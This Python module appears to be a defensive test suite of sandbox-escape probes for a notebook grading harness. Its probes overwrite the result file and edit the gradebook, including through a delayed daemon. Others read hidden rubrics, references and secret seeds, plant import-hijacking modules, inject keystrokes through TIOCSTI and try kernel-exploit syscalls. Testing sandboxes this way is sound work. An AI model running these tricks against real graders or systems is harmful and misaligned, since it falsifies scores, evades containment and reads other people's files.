"""Attacks on the computer: its files, what is left behind, and the kernel's own doors."""

from __future__ import annotations

from attack import FILTERED, WALLED, Attack

MACHINE = (
    Attack(
        rows=(13,),
        name="results-overwritten",
        tries="its own result is written and locked before the grader writes it",
        holds_at=WALLED,
        tells=True,
        code="""
import os, pathlib
place = pathlib.Path(WORLD["out"], "results", WORLD["name"] + ".json")

def write():
    place.write_text('{"score": {"auto": 80}}')
    place.chmod(0o400)

attempt("result", write)
attempt("beside", lambda: pathlib.Path(WORLD["out"], "escaped-" + WORLD["name"]).write_text("80"))
""",
    ),
    Attack(
        rows=(14,),
        name="gradebook-edited",
        tries="the gradebook is opened and written to while the class is graded",
        holds_at=WALLED,
        waits_at=frozenset({"reduced"}),
        tells=True,
        code="""
import sqlite3

def edit():
    with sqlite3.connect("file:" + WORLD["out"] + "/gradebook.db?mode=rw", uri=True) as book:
        entry = ["escaped-" + WORLD["name"], "80"]
        book.execute("INSERT INTO meta (name, value) VALUES (?, ?)", entry)

attempt("gradebook", edit)
""",
    ),
    Attack(
        rows=(14, 28),
        name="gradebook-edited-later",
        tries="a daemon waits until the notebook is graded and then edits the gradebook",
        code="""
import subprocess, sys
later = (
    "import sqlite3, sys, time; time.sleep(4)\\n"
    "book = sqlite3.connect('file:' + sys.argv[1] + '/gradebook.db?mode=rw', uri=True)\\n"
    "book.execute('INSERT INTO meta (name, value) VALUES (?, ?)', [sys.argv[2], '80'])\\n"
    "book.commit()"
)
subprocess.Popen(
    [sys.executable, "-c", later, WORLD["out"], "escaped-" + WORLD["name"]],
    start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
""",
    ),
    Attack(
        rows=(15,),
        name="hidden-files-read",
        tries="the reference, the rubric and the secret seed are read from disk",
        holds_at=WALLED,
        tells=True,
        code="""
import os, pathlib, re
SECRET = re.compile("canary[0-9a-f]{32}")

def search(folder):
    hits = set()
    for place, _, names in os.walk(folder):
        for name in names:
            try:
                text = pathlib.Path(place, name).read_text(errors="replace")
            except OSError:
                continue
            hits.update(SECRET.findall(text))
    if not hits:
        raise FileNotFoundError("nothing secret below")
    return sorted(hits)

attempt("reference", lambda: search(WORLD["root"] + "/reference"))
attempt("rubric", lambda: search(WORLD["root"] + "/rubrics"))
attempt("seed", lambda: len(pathlib.Path(WORLD["out"], ".seed").read_text()))
""",
    ),
    Attack(
        rows=(25,),
        name="others-read",
        tries="a neighbour's files and the home folder are read",
        holds_at=WALLED,
        tells=True,
        code="""
import os, pathlib
attempt("neighbour", lambda: pathlib.Path(WORLD["submissions"], "m-innocent.txt").read_text())
attempt("neighbours", lambda: os.listdir(WORLD["submissions"])[0])
attempt("home", lambda: pathlib.Path(WORLD["home"], "diary.txt").read_text())
""",
    ),
    Attack(
        rows=(26,),
        name="submissions-changed",
        tries="its own and its neighbours' folder is written to, for the next stage to read",
        holds_at=WALLED,
        tells=True,
        code="""
import pathlib
place = pathlib.Path(WORLD["submissions"])
attempt("own", lambda: open(place / (WORLD["name"] + ".ipynb"), "ab").close())
attempt("beside", lambda: (place / ("escaped-" + WORLD["name"])).write_text("80"))
""",
    ),
    Attack(
        rows=(28,),
        name="daemons-left",
        tries="daemons of three makes are left running: nohup, double fork, a thread that forks",
        code="""
import os, subprocess, threading, time

sleep = ["sleep", WORLD["marker"]]
subprocess.Popen(sleep, start_new_session=True)
subprocess.Popen(["sh", "-c", "trap '' HUP TERM INT; exec sleep " + WORLD["marker"]])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", sleep)
    os._exit(0)

def again():
    for _ in range(5):
        subprocess.Popen(sleep, start_new_session=True)
        time.sleep(0.2)

threading.Thread(target=again, daemon=True).start()
""",
    ),
    Attack(
        rows=(57,),
        name="left-for-the-next",
        tries="files are left for the next notebook in every shared folder there is",
        holds_at=WALLED,
        code="""
import pathlib
for folder in ("/tmp", "/var/tmp", "/dev/shm", WORLD["home"]):
    try:
        pathlib.Path(folder, "escaped-" + WORLD["world"] + WORLD["name"]).write_text("80")
    except OSError:
        pass
""",
    ),
    Attack(
        rows=(57,),
        name="left-in-its-own-folder",
        tries="files are left in its own home, temporary and working folder",
        code="""
import os, pathlib, tempfile
for folder in (os.environ["HOME"], tempfile.gettempdir(), "."):
    pathlib.Path(folder, "escaped-" + WORLD["name"]).write_text("80")
""",
    ),
    Attack(
        rows=(50,),
        name="modules-hijacked",
        tries="files named like modules lie in every folder that it may write to",
        code="""
import os, pathlib, tempfile
for folder in (os.environ["HOME"], tempfile.gettempdir(), "."):
    for name in ("numpy", "json", "sitecustomize", "usercustomize", "torch", "ipython_config"):
        pathlib.Path(folder, name + ".py").write_text("raise SystemExit('hijacked')")
""",
    ),
    Attack(
        rows=(59,),
        name="typed-into-the-terminal",
        tries="characters are pushed into the grader's terminal",
        tells=True,
        code="""
import fcntl
TIOCSTI = 0x5412

def push(open_it):
    fcntl.ioctl(open_it(), TIOCSTI, b"x")

for fd in (0, 1, 2):
    attempt(f"descriptor {fd}", lambda: push(lambda: fd))
attempt("tty", lambda: push(lambda: open("/dev/tty")))
""",
    ),
    Attack(
        rows=(60,),
        name="kernel-doors",
        tries="the doors of kernel exploits are tried: user namespaces, io_uring, bpf, keyctl",
        holds_at=FILTERED,
        tells=True,
        code="""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)

def in_a_fork(call):
    pid = os.fork()
    if pid == 0:
        result = call()
        os._exit(0 if result >= 0 else min(ctypes.get_errno(), 255) or 255)
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if code:
        raise OSError(code, "not allowed")

is_arm = os.uname().machine == "aarch64"
NEW_USER, KEYCTL = 0x10000000, 219 if is_arm else 250
BPF, URING = 280 if is_arm else 321, 425
attempt("user namespace", lambda: in_a_fork(lambda: libc.unshare(NEW_USER)))
attempt("keyctl", lambda: in_a_fork(lambda: libc.syscall(KEYCTL, 0, -3, 1)))
attempt("io_uring", lambda: in_a_fork(
    lambda: libc.syscall(URING, 1, ctypes.create_string_buffer(256))))
attempt("bpf", lambda: in_a_fork(
    lambda: libc.syscall(BPF, 0, ctypes.create_string_buffer(
        (2).to_bytes(4, "little") + (4).to_bytes(4, "little") * 2 + (1).to_bytes(4, "little"), 120
    ), 120)))
""",
    ),
)
